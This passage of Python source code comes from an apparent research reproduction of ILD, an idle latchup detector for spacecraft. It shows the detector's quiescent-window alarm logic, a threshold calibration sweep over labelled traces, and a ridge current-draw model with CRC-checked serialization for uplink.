        residual = self.residuals(trace)
        quiescent = self.quiescence.mask(trace.counters)
        if app_quiescent is not None:
            app_quiescent = np.asarray(app_quiescent, dtype=bool)
            if app_quiescent.shape != quiescent.shape:
                raise ConfigurationError(
                    f"app_quiescent has shape {app_quiescent.shape}; "
                    f"expected {quiescent.shape}"
                )
            quiescent = quiescent | app_quiescent
        times = trace.times()
        self.evaluated_ticks += trace.n_ticks
        self.quiescent_ticks_seen += int(quiescent.sum())

        detections: "list[Detection]" = []
        state = self._state
        alarm_mask = np.zeros(trace.n_ticks, dtype=bool)

        # Walk quiescent runs.
        padded = np.concatenate([[False], quiescent, [False]])
        starts = np.nonzero(padded[1:] & ~padded[:-1])[0]
        ends = np.nonzero(padded[:-1] & ~padded[1:])[0]
        contiguous = (
            len(starts) > 0
            and starts[0] == 0
            and state.tail_end_time >= 0
            and abs(times[0] - tick - state.tail_end_time) < 1.5 * tick
        )
        for run_index, (start, end) in enumerate(zip(starts, ends)):
            run_residuals = residual[start:end]
            run_times = times[start:end]
            if run_index == 0 and contiguous and len(state.residual_tail):
                run_residuals = np.concatenate([state.residual_tail, run_residuals])
                prefix = len(state.residual_tail)
            else:
                prefix = 0
                state.in_alarm = False
            if len(run_residuals) >= window:
                kernel = np.ones(window) / window
                means = np.convolve(run_residuals, kernel, mode="valid")
                over = means > cfg.residual_threshold_amps
                self.alarm_ticks += int(over.sum())
                decision_ticks = start + np.clip(
                    np.arange(len(over)) + window - 1 - prefix,
                    0,
                    (end - start) - 1,
                )
                alarm_mask[decision_ticks[over]] = True
                # Alarm onsets: rising edges of `over`, respecting the
                # alarm state carried in from the previous chunk.
                previous = np.concatenate([[state.in_alarm], over[:-1]])
                onsets = np.nonzero(over & ~previous)[0]
                for onset in onsets:
                    # Position of the window's last sample in this run.
                    last = onset + window - 1 - prefix
                    if last < 0:
                        last = 0
                    detections.append(
                        Detection(
                            time=float(run_times[min(last, len(run_times) - 1)]),
                            mean_residual=float(means[onset]),
                        )
                    )
                state.in_alarm = bool(over[-1])
            # Save the tail for cross-chunk continuity.
            if end == trace.n_ticks:
                state.residual_tail = run_residuals[-(window - 1):] if window > 1 else np.empty(0)
                state.tail_end_time = float(times[-1])
            else:
                state.residual_tail = np.empty(0)
                state.tail_end_time = -1.0
                state.in_alarm = False
        if not len(starts) or ends[-1] != trace.n_ticks:
            state.residual_tail = np.empty(0)
            state.tail_end_time = -1.0
            state.in_alarm = False
        self.last_alarm_mask = alarm_mask
        if self.obs.enabled and trace.n_ticks:
            # Attributes are per-call only (never the accumulating
            # totals), so a task's records are independent of what any
            # other episode did and the merged trace stays deterministic.
            self.obs.tracer.span(
                "ild.process", t=float(times[0]),
                dur=float(trace.n_ticks * tick),
                n_ticks=int(trace.n_ticks),
                quiescent_ticks=int(quiescent.sum()),
                detections=len(detections),
            )
            self.obs.metrics.counter("ild.ticks_processed").inc(trace.n_ticks)
            for detection in detections:
                self.obs.tracer.event(
                    "ild.detection", t=detection.time,
                    mean_residual=detection.mean_residual,
                )
                self.obs.metrics.counter("ild.detections").inc()
        return detections

    # ------------------------------------------------------------------
    @property
    def alarm_fraction(self) -> float:
        """Fraction of evaluated quiescent windows in alarm (FP-rate
        numerator when no SEL is active)."""
        if not self.quiescent_ticks_seen:
            return 0.0
        return self.alarm_ticks / self.quiescent_ticks_seen


def train_ild(
    model_trace: TelemetryTrace,
    config: "IldConfig | None" = None,
    max_instruction_rate: "float | None" = None,
    feature_indices: "np.ndarray | None" = None,
) -> IldDetector:
    """Ground-calibration convenience: fit the linear model on a
    training trace's quiescent ticks and return a ready detector."""
    cfg = config or IldConfig()
    if max_instruction_rate is None:
        # Infer machine capacity from the busiest observed tick.
        max_instruction_rate = float(model_trace.counters.instruction_rate.max())
        max_instruction_rate = max(max_instruction_rate, 1.0)
    filt = RollingMinimumFilter(cfg.filter_halfwidth_samples)
    filtered = filt.per_tick(
        model_trace.fine_samples, model_trace.config.samples_per_tick
    )[: model_trace.n_ticks]
    quiescence = QuiescenceDetector(
        max_instruction_rate, utilization_threshold=cfg.quiescence_utilization
    )
    mask = quiescence.mask(model_trace.counters)
    if not mask.any():
        raise ConfigurationError("training trace has no quiescent ticks")
    model = CurrentModel(feature_indices=feature_indices)
    model.fit(model_trace.counters.slice(mask), filtered[mask])
    return IldDetector(model, max_instruction_rate, cfg)
