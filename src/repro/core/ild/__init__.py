"""ILD: the Idle Latchup Detector (§3.1)."""

from .baselines import (
    NaiveBayesBaseline,
    RandomForestBaseline,
    StaticThresholdBaseline,
)
from .blackbox import SelDiagnostic, TelemetryBlackBox, TelemetryRow
from .calibration import (
    CalibrationResult,
    LabelledTrace,
    ThresholdScore,
    sweep_thresholds,
)
from .detector import Detection, IldConfig, IldDetector, train_ild
from .model import CurrentModel, FeatureSelection, select_features
from .quiescence import (
    BubblePolicy,
    QuiescenceDetector,
    bubble_overhead,
    inject_bubbles,
)
from .rolling_filter import RollingMinimumFilter

__all__ = [
    "BubblePolicy",
    "CalibrationResult",
    "CurrentModel",
    "Detection",
    "FeatureSelection",
    "IldConfig",
    "IldDetector",
    "LabelledTrace",
    "NaiveBayesBaseline",
    "QuiescenceDetector",
    "RandomForestBaseline",
    "RollingMinimumFilter",
    "SelDiagnostic",
    "StaticThresholdBaseline",
    "TelemetryBlackBox",
    "TelemetryRow",
    "ThresholdScore",
    "bubble_overhead",
    "inject_bubbles",
    "select_features",
    "sweep_thresholds",
    "train_ild",
]
