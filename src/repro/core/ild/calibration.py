"""Residual-threshold calibration (§3.1).

"a difference between 0.04 A to 0.08 A was tested against simulated
datasets in 0.005 A increments, and 0.055 A presented no false
negative rates while minimizing false positive rates."

The sweep re-runs a ready detector at each candidate threshold over a
set of labelled calibration traces and picks the smallest threshold
with zero false negatives — because "the cost of a false negative
(losing the spacecraft) far outweigh[s] the cost of a false positive
(a spurious reboot)" — breaking ties toward fewer false positives.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

import numpy as np

from ...errors import ConfigurationError
from ...parallel import pmap
from ...sim.telemetry import TelemetryTrace
from .detector import IldConfig, IldDetector


@dataclass(frozen=True)
class LabelledTrace:
    """A calibration trace plus its ground truth."""

    trace: TelemetryTrace
    sel_onset: "float | None"  # None = clean trace


@dataclass(frozen=True)
class ThresholdScore:
    threshold_amps: float
    false_negatives: int
    false_positives: int
    sel_traces: int
    clean_traces: int

    @property
    def fn_rate(self) -> float:
        return self.false_negatives / self.sel_traces if self.sel_traces else 0.0

    @property
    def fp_rate(self) -> float:
        return self.false_positives / self.clean_traces if self.clean_traces else 0.0


@dataclass(frozen=True)
class CalibrationResult:
    scores: "tuple[ThresholdScore, ...]"
    chosen: ThresholdScore


def _score_one(
    detector: IldDetector, labelled: LabelledTrace, window_seconds: float
) -> "tuple[int, int]":
    """Returns (false_negative, false_positive) ∈ {0,1} for one trace."""
    detector.reset()
    detections = detector.process(labelled.trace)
    if labelled.sel_onset is None:
        return 0, int(bool(detections))
    in_window = [
        d for d in detections
        if labelled.sel_onset <= d.time <= labelled.sel_onset + window_seconds
    ]
    false_positive = int(any(d.time < labelled.sel_onset for d in detections))
    return int(not in_window), false_positive


def _score_task(task: "tuple[IldDetector, LabelledTrace, float]") -> "tuple[int, int]":
    """Pool-side unit of the calibration grid: one (threshold-ready
    detector, trace) cell. Top-level so it pickles."""
    detector, labelled, window_seconds = task
    return _score_one(detector, labelled, window_seconds)


def sweep_thresholds(
    detector_factory,
    labelled_traces: "list[LabelledTrace]",
    thresholds: "np.ndarray | None" = None,
    base_config: "IldConfig | None" = None,
    workers: "int | None" = 1,
) -> CalibrationResult:
    """Run the paper's 0.04–0.08 A sweep.

    ``detector_factory(config) -> IldDetector`` builds a trained
    detector at a given config (the model itself is threshold-free, so
    factories usually close over one fitted model).

    The threshold × trace grid is embarrassingly parallel and scoring
    is deterministic (no randomness), so any ``workers`` value yields
    identical scores; detectors are built in-process (factories are
    usually closures) and shipped to workers per grid cell.
    """
    if not labelled_traces:
        raise ConfigurationError("need at least one calibration trace")
    base = base_config or IldConfig()
    if thresholds is None:
        thresholds = np.arange(0.040, 0.0801, 0.005)
    sel_traces = sum(1 for lt in labelled_traces if lt.sel_onset is not None)
    clean_traces = len(labelled_traces) - sel_traces
    detectors = [
        detector_factory(replace(base, residual_threshold_amps=float(threshold)))
        for threshold in thresholds
    ]
    grid = [
        (detector, labelled, base.detection_window_seconds)
        for detector in detectors
        for labelled in labelled_traces
    ]
    cell_scores = pmap(_score_task, grid, workers=workers)
    scores = []
    n_traces = len(labelled_traces)
    for t_index, threshold in enumerate(thresholds):
        fn = fp = 0
        for dfn, dfp in cell_scores[t_index * n_traces : (t_index + 1) * n_traces]:
            fn += dfn
            fp += dfp
        scores.append(
            ThresholdScore(
                threshold_amps=float(threshold),
                false_negatives=fn,
                false_positives=fp,
                sel_traces=sel_traces,
                clean_traces=max(clean_traces, sel_traces),  # FP chances exist on SEL traces too
            )
        )
    zero_fn = [s for s in scores if s.false_negatives == 0]
    if zero_fn:
        chosen = min(zero_fn, key=lambda s: (s.false_positives, s.threshold_amps))
    else:
        chosen = min(scores, key=lambda s: (s.false_negatives, s.false_positives))
    return CalibrationResult(scores=tuple(scores), chosen=chosen)
