"""ILD's current-draw model (§3.1).

A ridge linear model mapping the Table 1 perf-counter features to
expected board current. It is trained *on the ground*, on an identical
copy of the flight hardware, over quiescent telemetry — exactly the
deployment story the paper describes: "Satellite operators typically
test programs on an Earth-based identical copy of the hardware onboard
a satellite, which allows for ILD to be trained before the satellite
is launched."
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ...errors import ConfigurationError
from ...ml.linreg import LinearRegression
from ...ml.random_forest import RandomForest
from ...sim.perfcounters import CounterFrame, feature_names


@dataclass(frozen=True)
class FeatureSelection:
    """Result of the random-forest feature-importance pass the paper
    uses to justify the Table 1 metric set."""

    importances: np.ndarray
    names: tuple
    top_indices: np.ndarray

    def top_names(self) -> "tuple[str, ...]":
        return tuple(self.names[i] for i in self.top_indices)


def select_features(
    frame: CounterFrame,
    current: np.ndarray,
    n_top: int = 12,
    n_trees: int = 12,
    max_samples: int = 4000,
    seed: int = 0,
) -> FeatureSelection:
    """Rank counters by random-forest importance for predicting current.

    The paper: "These counters were chosen by first creating a random
    forest to model current draw, and then selecting the most important
    features ... instruction completion rate, bus cycle rate, and CPU
    frequency were by far the most correlated."
    """
    X = frame.feature_matrix()
    y = np.asarray(current, dtype=float)
    if len(X) != len(y):
        raise ConfigurationError(f"{len(X)} feature rows vs {len(y)} currents")
    forest = RandomForest(
        n_trees=n_trees,
        max_depth=7,
        max_features=None,
        max_samples=min(max_samples, len(X)),
        task="regression",
        seed=seed,
    ).fit(X, y)
    names = feature_names(frame.n_cores)
    return FeatureSelection(
        importances=forest.feature_importances_,
        names=names,
        top_indices=forest.top_features(min(n_top, len(names))),
    )


class CurrentModel:
    """The deployed linear estimator: counters -> expected amps."""

    def __init__(self, alpha: float = 1e-4,
                 feature_indices: "np.ndarray | None" = None) -> None:
        self._regression = LinearRegression(alpha=alpha)
        self.feature_indices = feature_indices
        self.trained_on_samples = 0

    def _design(self, frame: CounterFrame) -> np.ndarray:
        X = frame.feature_matrix()
        if self.feature_indices is not None:
            X = X[:, self.feature_indices]
        return X

    def fit(self, frame: CounterFrame, current: np.ndarray) -> "CurrentModel":
        """Train on (typically quiescent, rolling-min filtered) data."""
        X = self._design(frame)
        y = np.asarray(current, dtype=float)
        if len(X) != len(y):
            raise ConfigurationError(f"{len(X)} feature rows vs {len(y)} currents")
        self._regression.fit(X, y)
        self.trained_on_samples = len(X)
        return self

    def predict(self, frame: CounterFrame) -> np.ndarray:
        return self._regression.predict(self._design(frame))

    def residuals(self, frame: CounterFrame, measured: np.ndarray) -> np.ndarray:
        """measured − predicted: positive residuals mean unexplained
        current — the SEL signature."""
        return np.asarray(measured, dtype=float) - self.predict(frame)

    def score(self, frame: CounterFrame, measured: np.ndarray) -> float:
        return self._regression.score(self._design(frame), np.asarray(measured))

    # ------------------------------------------------------------------
    # Serialization: the deployment flow is "train on the ground copy,
    # uplink the coefficients" — a model must survive a radio link.
    # ------------------------------------------------------------------
    _MAGIC = b"ILDM\x01"

    def to_bytes(self) -> bytes:
        """Pack coefficients, intercept, and feature indices into a
        CRC-protected blob (uplink format)."""
        import struct

        from ..emr.checksum import crc32

        if self._regression.coef_ is None:
            raise ConfigurationError("cannot serialize an unfitted model")
        coef = np.asarray(self._regression.coef_, dtype="<f8")
        indices = (
            np.asarray(self.feature_indices, dtype="<i4")
            if self.feature_indices is not None
            else np.empty(0, dtype="<i4")
        )
        body = bytearray(self._MAGIC)
        body += struct.pack("<dII", self._regression.intercept_, len(coef), len(indices))
        body += coef.tobytes()
        body += indices.tobytes()
        body += struct.pack("<I", crc32(bytes(body)))
        return bytes(body)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "CurrentModel":
        """Inverse of :meth:`to_bytes`; rejects corrupted blobs."""
        import struct

        from ..emr.checksum import crc32

        if len(blob) < len(cls._MAGIC) + 16 + 4:
            raise ConfigurationError("model blob truncated")
        payload, crc_bytes = blob[:-4], blob[-4:]
        if crc32(payload) != struct.unpack("<I", crc_bytes)[0]:
            raise ConfigurationError("model blob failed CRC (corrupted uplink?)")
        if not payload.startswith(cls._MAGIC):
            raise ConfigurationError("bad model magic/version")
        offset = len(cls._MAGIC)
        intercept, n_coef, n_indices = struct.unpack_from("<dII", payload, offset)
        offset += 16
        coef = np.frombuffer(payload, dtype="<f8", count=n_coef, offset=offset).copy()
        offset += n_coef * 8
        indices = np.frombuffer(payload, dtype="<i4", count=n_indices, offset=offset)
        model = cls(feature_indices=indices.copy() if n_indices else None)
        model._regression.coef_ = coef
        model._regression.intercept_ = float(intercept)
        model.trained_on_samples = -1  # unknown after round-trip
        return model
